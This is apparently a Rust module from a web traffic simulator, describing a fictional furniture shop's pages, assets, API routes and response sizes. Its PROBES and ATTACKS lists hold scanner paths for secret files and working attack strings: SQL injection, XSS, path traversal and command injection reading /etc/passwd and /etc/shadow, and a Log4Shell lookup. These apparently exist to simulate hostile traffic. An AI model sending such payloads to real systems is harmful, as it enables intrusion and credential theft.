//! The web site that is simulated: its pages, files and API, and how large their answers are.

use super::Random;

/// Assets that every page loads.
pub(super) const ASSETS: [(&str, u32); 7] = [
    ("/static/css/main.css", 18_211),
    ("/static/js/app.js", 74_330),
    ("/static/js/vendor.js", 161_902),
    ("/static/img/logo.svg", 3_871),
    ("/static/fonts/inter.woff2", 48_444),
    ("/static/img/hero.jpg", 212_006),
    ("/favicon.ico", 5_430),
];

/// What lies at a path.
pub(super) struct Page {
    pub(super) path: String,
    pub(super) bytes: u32,
}

/// A page that people read.
pub(super) fn page(random: &mut Random) -> Page {
    let path = match random.weighted(&[18.0, 22.0, 30.0, 10.0, 6.0, 5.0, 4.0, 3.0, 2.0]) {
        0 => "/".to_string(),
        1 => "/products".to_string(),
        2 => format!("/products/{}", 1 + popular(random, 900)),
        3 => format!("/blog/{}", BLOG[popular(random, BLOG.len())]),
        4 => format!("/search?q={}", random.pick(&WORDS)),
        5 => "/cart".to_string(),
        6 => format!("/category/{}", random.pick(&CATEGORIES)),
        7 => "/members/area".to_string(),
        _ => "/about".to_string(),
    };
    Page {
        bytes: size(&path, 6_000, 38_000),
        path,
    }
}

/// Fills `{id}`, `{word}`, `{hex}` and `{uuid}` in a pattern.
pub(super) fn fill(random: &mut Random, pattern: &str) -> String {
    let mut path = String::with_capacity(pattern.len() + 8);
    let mut rest = pattern;
    while let Some((before, after)) = rest.split_once('{') {
        let (name, tail) = after.split_once('}').unwrap_or((after, ""));
        path.push_str(before);
        match name {
            "id" => path.push_str(&(1 + random.below(4000)).to_string()),
            "word" => path.push_str(WORDS[random.below(WORDS.len())]),
            "hex" => path.push_str(&random.hex(16)),
            _ => path.push_str(&format!(
                "{}-{}-4{}-a{}-{}",
                random.hex(8),
                random.hex(4),
                random.hex(3),
                random.hex(3),
                random.hex(12)
            )),
        }
        rest = tail;
    }
    path.push_str(rest);
    path
}

/// The size of an answer: the same for the same path, as pages have.
pub(super) fn size(path: &str, low: u32, high: u32) -> u32 {
    let hash = path.bytes().fold(0x811c_9dc5u32, |hash, byte| {
        (hash ^ u32::from(byte)).wrapping_mul(0x0100_0193)
    });
    low + hash % (high - low).max(1)
}

/// Zipf-like: the smaller, the more often.
fn popular(random: &mut Random, count: usize) -> usize {
    let (a, b) = (random.unit(), random.unit());
    ((a * b * b) * count as f64) as usize % count.max(1)
}

/// Routes that programs call.
pub(super) const API_ROUTES: [&str; 9] = [
    "/api/v1/products?page={id}",
    "/api/v1/products/{id}",
    "/api/v1/orders/{id}",
    "/api/v1/orders",
    "/api/v1/inventory?sku=SKU-{id}",
    "/api/v1/search?q={word}",
    "/api/v2/events",
    "/api/v1/users/{uuid}/profile",
    "/api/v1/status",
];

/// What scanners look for; dot files are denied, the rest is not there.
pub(super) const PROBES: [&str; 14] = [
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/.aws/credentials",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/admin.php",
    "/.svn/entries",
    "/backup.zip",
    "/config.json",
    "/.vscode/sftp.json",
    "/cgi-bin/luci",
    "/actuator/env",
    "/server-status",
];

/// Attacks inside a query, as they are sent.
pub(super) const ATTACKS: [&str; 8] = [
    "/products?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/download?file=../../../../etc/passwd",
    "/api/v1/search?q=1%20OR%201=1",
    "/products?id=%24%7Bjndi:ldap://203.0.113.9/a%7D",
    "/blog/?page=php://filter/convert.base64-encode/resource=index.php",
    "/search?q=%27;WAITFOR%20DELAY%20%270:0:5%27--",
    "/api/v1/products?sort=id;cat%20/etc/shadow",
];

const WORDS: [&str; 14] = [
    "lamp", "chair", "blue", "oak", "desk", "sofa", "wool", "vase", "rug", "mirror", "shelf",
    "bed", "clock", "linen",
];
const CATEGORIES: [&str; 5] = ["sale", "living", "garden", "kitchen", "office"];
const BLOG: [&str; 8] = [
    "care-for-oak",
    "small-rooms",
    "lighting-guide",
    "wool-or-linen",
    "spring-news",
    "how-we-ship",
    "meet-the-team",
    "choosing-a-desk",
];
